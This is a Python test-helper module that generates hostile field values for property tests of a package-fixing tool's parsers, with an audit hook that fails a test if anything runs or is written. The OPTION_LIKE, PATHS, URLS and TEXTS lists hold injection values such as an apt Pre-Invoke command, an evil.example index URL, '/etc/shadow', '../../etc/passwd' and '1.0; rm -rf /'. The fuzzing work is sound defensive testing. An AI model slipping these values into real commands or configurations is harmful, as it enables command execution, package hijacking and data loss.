"""Hostile values for the property tests of every input format (locks, environment JSON, node
files, plugin recipes, caches), and a watch that fails a test when anything runs or is written.

`field_paths(doc)` lists where a hostile value can go in a good document, and
`with_field(doc, path, value)` puts it there.

`values()` draws what a hostile or corrupt file can hold in one field: every JSON/TOML type,
huge and control-character strings, option-like words (`-oDPkg::Pre-Invoke::=...`), paths
that escape (`..`, /tmp, symlink-ish), URLs with credentials or plain http, numbers of
thousands of digits. `nothing_happens()` is a sys.audit hook: a process start, a file opened
for writing, a remove, rename or chmod inside it is recorded, and the test asserts none was.
"""

from __future__ import annotations

import contextlib
import copy
from typing import Any, Iterator, List, NamedTuple, Sequence, Tuple

from hypothesis import strategies as st

from fixer.model import CommandResult
from tests.helpers import audit

OPTION_LIKE = (
    "-oDPkg::Pre-Invoke::=touch /tmp/pwned",
    "--index-url=http://evil.example/simple",
    "-r/etc/shadow",
    "--",
    "-y",
)
PATHS = (
    "../../etc/passwd",
    "/tmp",
    "/tmp/lib",
    "/etc/../tmp/x",
    "/usr/lib/x86_64-linux-gnu/../../../tmp",
    "relative/lib",
    "/usr/lib//x86_64-linux-gnu",
    "/usr/lib/x86_64-linux-gnu\n/tmp",
    "/dev/shm/lib",
    "C:\\Windows",
)
URLS = (
    "http://evil.example/simple",
    "https://user:s3cret@pypi.example/simple",
    "ftp://x/simple",
    "file:relative",
    "https://",
    "javascript:alert(1)",
    "https://a b/simple",
    "http://[::1",
)
TEXTS = (
    "9" * 5000,
    "1." + "0" * 5000,
    "x",
    "",
    " ",
    "a\nb",
    "name\n--index-url http://evil.example",
    "\x00",
    "é",
    "pip",
    "setuptools",
    "colab-cudnn-fix",
    "1.0; rm -rf /",
    "=1",
)


def _huge() -> st.SearchStrategy[str]:
    return st.integers(min_value=200, max_value=20000).map(lambda n: "a" * n)


def scalars() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.integers(min_value=10**300, max_value=10**301),
        st.floats(allow_nan=True, allow_infinity=True),
        st.text(max_size=40),
        st.sampled_from(OPTION_LIKE + PATHS + URLS + TEXTS),
        _huge(),
    )


def values() -> st.SearchStrategy[Any]:
    """Any value a hostile file can put in one field."""
    return st.recursive(
        scalars(),
        lambda inner: st.one_of(
            st.lists(inner, max_size=4),
            st.dictionaries(st.text(max_size=8), inner, max_size=4),
        ),
        max_leaves=8,
    )


_WRITE_FLAGS = ("w", "a", "x", "+")
_EVENTS = {
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.fork",
    "os.remove",
    "os.unlink",
    "os.rename",
    "os.replace",
    "os.rmdir",
    "os.chmod",
    "os.mkdir",
    "shutil.rmtree",
    "shutil.move",
    "shutil.copyfile",
}


class _Watch:
    active = False
    events: List[Tuple[str, str]] = []


def _hook(event: str, args: Tuple[Any, ...]) -> None:
    if not _Watch.active:
        return
    if event in _EVENTS:
        _Watch.events.append((event, repr(args)[:200]))
    elif (
        event == "open" and len(args) >= 2 and not isinstance(args[0], int)
    ):  # an fd: opened before
        mode, flags = args[1], args[2] if len(args) > 2 else 0
        writes = (isinstance(mode, str) and any(c in mode for c in _WRITE_FLAGS)) or (
            isinstance(flags, int) and flags & 0o3
        )
        if writes:
            _Watch.events.append((event, repr(args[0])[:200]))


_installed = False


@contextlib.contextmanager
def nothing_happens() -> Iterator[List[Tuple[str, str]]]:
    """Record every process start and file-system change made inside; yields the list."""
    global _installed
    if not _installed:
        audit.watch(_EVENTS | {"open"}, _hook)
        _installed = True
    _Watch.events = []
    _Watch.active = True
    try:
        yield _Watch.events
    finally:
        _Watch.active = False


def one_line(message: str) -> bool:
    return "\n" not in message and "Traceback" not in message


FieldPath = Tuple[Any, ...]


def field_paths(node: Any, items: int = 1, at: FieldPath = ()) -> List[FieldPath]:
    """Every field path of a JSON-like document: each object key, and the first `items` items of
    each list, all the way down ("environment", "python", "distributions", 0, "name")."""
    out: List[FieldPath] = [at] if at else []
    if isinstance(node, dict):
        for k, v in node.items():
            out += field_paths(v, items, at + (k,))
    elif isinstance(node, list):
        for i, v in enumerate(node[:items]):
            out += field_paths(v, items, at + (i,))
    return out


def _copy_along(data: Any, path: FieldPath) -> Tuple[Any, Any]:
    """(a copy of `data`, the container at `path` in it): each list or object on the path is a
    new shallow copy, everything off the path is shared with `data`. The documents these helpers
    change are JSON read by code that never mutates its input (json.dumps, the parsers under
    test); a whole deep copy per change cost seconds of a unit run."""
    root = copy.copy(data)
    cur = root
    for p in path:
        child = copy.copy(cur[p])
        cur[p] = child
        cur = child
    return root, cur


def with_field(data: Any, path: FieldPath, value: Any) -> Any:
    """A copy of `data` with the field at `path` set to `value` (a list index one past its
    end appends); `data` itself is not changed (_copy_along)."""
    data, cur = _copy_along(data, path[:-1])
    if isinstance(cur, list) and path[-1] >= len(cur):
        cur.append(value)
    else:
        cur[path[-1]] = value
    return data


#: `field_paths(doc, items=EVERY_ITEM)`: every item of every list, not only the first.
EVERY_ITEM = 10**9


def field_at(data: Any, path: FieldPath) -> Any:
    for p in path:
        data = data[p]
    return data


def without_field(data: Any, path: FieldPath) -> Any:
    """A copy of `data` with the key or list item at `path` removed; `data` itself is not
    changed (_copy_along)."""
    data, parent = _copy_along(data, path[:-1])
    del parent[path[-1]]
    return data


class Mutation(NamedTuple):
    """One change of a good document: "set", "removed", "added" or "appended", where (the path
    of the field set, removed, added or appended), and the changed document."""

    kind: str
    path: FieldPath
    doc: Any

    def __str__(self) -> str:
        return f"{self.kind} {_where(self.path)}"


def mutations(
    doc: Any,
    hostile: "st.SearchStrategy[Any] | None" = None,
    items: int = EVERY_ITEM,
    keep: Sequence[FieldPath] = (),
) -> "st.SearchStrategy[Mutation]":
    """Mutation(kind, path, changed document) for a good JSON-like `doc`: a hostile value
    (`hostile`, default `values()`) in any field or list item, that field or item removed (a
    required key missing), an unknown key added to any object (the top level included), or an
    item appended to any list. Each field of `keep` stays as it is, where it is: nothing inside
    it, nor it, nor what holds it is set or removed, nothing is added to it, and no list item
    before it is removed. For a test that needs one field as it is without a filter: a filter
    that rejects three draws in a row makes Hypothesis compute the strategy's whole repr (124 kB
    for a kernel spec)."""
    hostile = values() if hostile is None else hostile
    every = field_paths(doc, items)
    paths = [p for p in every if not _holds(p, keep) and not _in(p, keep)]
    dropped = [p for p in paths if not _moves(p, keep)]
    roots: List[FieldPath] = [()] if isinstance(doc, dict) else []
    objects = roots + [p for p in every if isinstance(field_at(doc, p), dict) and not _in(p, keep)]

    def put(path: FieldPath, value: Any) -> Mutation:
        return Mutation("set", path, with_field(doc, path, value))

    def drop(path: FieldPath) -> Mutation:
        return Mutation("removed", path, without_field(doc, path))

    def add(path: FieldPath, key: str, value: Any) -> Mutation:
        while isinstance(field_at(doc, path), dict) and key in field_at(doc, path):
            key = key + "-unknown"
        return Mutation("added", path + (key,), with_field(doc, path + (key,), value))

    keys = st.one_of(st.text(max_size=12), st.sampled_from(("__proto__", "checksum", "x" * 300)))

    def append(path: FieldPath, value: Any) -> Mutation:
        n = len(field_at(doc, path))
        return Mutation("appended", path + (n,), with_field(doc, path + (n,), value))

    lists = [p for p in every if isinstance(field_at(doc, p), list) and not _in(p, keep)]
    choices = [
        st.builds(add, st.sampled_from(objects), keys, hostile) if objects else None,
        st.builds(append, st.sampled_from(lists), hostile) if lists else None,
        st.builds(put, st.sampled_from(paths), hostile) if paths else None,
        st.builds(drop, st.sampled_from(dropped)) if dropped else None,
    ]
    return st.one_of(*[c for c in choices if c is not None])


def _holds(p: FieldPath, keep: Sequence[FieldPath]) -> bool:
    """`p` is a kept field, or an object or list that holds one."""
    return any(tuple(k[: len(p)]) == p for k in keep)


def _in(p: FieldPath, keep: Sequence[FieldPath]) -> bool:
    """`p` is a kept field, or inside one."""
    return any(p[: len(k)] == tuple(k) for k in keep)


def _moves(p: FieldPath, keep: Sequence[FieldPath]) -> bool:
    """`p` is a list item before a kept one in the same list: removing it moves the kept one."""
    return isinstance(p[-1], int) and any(
        len(k) >= len(p) and tuple(k[: len(p) - 1]) == p[:-1] and k[len(p) - 1] > p[-1]
        for k in keep
    )


def _where(path: FieldPath) -> str:
    return "$" + "".join(f"[{p}]" if isinstance(p, int) else f".{p}" for p in path)


class Recorder:
    """The edge where the tool runs a command (apt, dpkg, pip): every command is recorded and
    answered "failed", so nothing runs; a test reads `commands` afterwards."""

    def __init__(self) -> None:
        self.commands: List[Sequence[str]] = []

    def __call__(self, argv: Sequence[str], **kw: Any) -> CommandResult:
        self.commands.append(list(argv))
        return CommandResult(rc=1, output="")


#: How a cache file can be one that someone else could have written (fixer.system.cachefile
#: refuses each): writable by the group or by others, a symlink to a file elsewhere, another
#: user's file.
FOREIGN_CACHE_FILES = ("group-writable", "other-writable", "symlink", "other-owner")


def plant_foreign(path: Any, data: bytes, how: str, elsewhere: Any) -> None:
    """Put `data` at the cache file `path` as a file of kind `how` (FOREIGN_CACHE_FILES); a
    symlink points at `elsewhere`. "other-owner" needs root (the caller skips without it)."""
    import os

    if how == "symlink":
        elsewhere.write_bytes(data)
        os.chmod(elsewhere, 0o600)
        path.unlink()
        path.symlink_to(elsewhere)
    elif how == "other-owner":
        path.write_bytes(data)
        os.chown(path, 12345, 12345)
    else:
        path.write_bytes(data)
        os.chmod(path, 0o620 if how == "group-writable" else 0o602)
